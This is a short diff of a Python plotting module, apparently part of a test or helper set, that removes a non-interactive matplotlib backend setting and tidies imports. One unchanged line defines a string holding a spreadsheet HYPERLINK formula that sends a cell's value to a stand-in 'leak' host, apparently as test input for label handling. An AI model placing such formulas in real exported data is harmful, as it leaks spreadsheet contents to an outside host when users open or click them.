@@ -5,16 +5,13 @@ from __future__ import annotations
 
 import warnings
 
-import matplotlib
+import matplotlib.pyplot as plt
+import pandas as pd
 
-matplotlib.use("Agg")
-import matplotlib.pyplot as plt  # noqa: E402
-import pandas as pd  # noqa: E402
-
-from helpers.attention import coverage_grid  # noqa: E402
-from helpers.plots import use_style  # noqa: E402
-from helpers.plots.coverage import coverage_grid_heatmap  # noqa: E402
-from helpers.plots.style import MAX_LABEL_CHARS, short_label  # noqa: E402
+from helpers.attention import coverage_grid
+from helpers.plots import use_style
+from helpers.plots.coverage import coverage_grid_heatmap
+from helpers.plots.style import MAX_LABEL_CHARS, short_label
 
 LONG = '=HYPERLINK("http://leak.test/?"&A1,"Daily Formula") and a much longer tail of words'
 
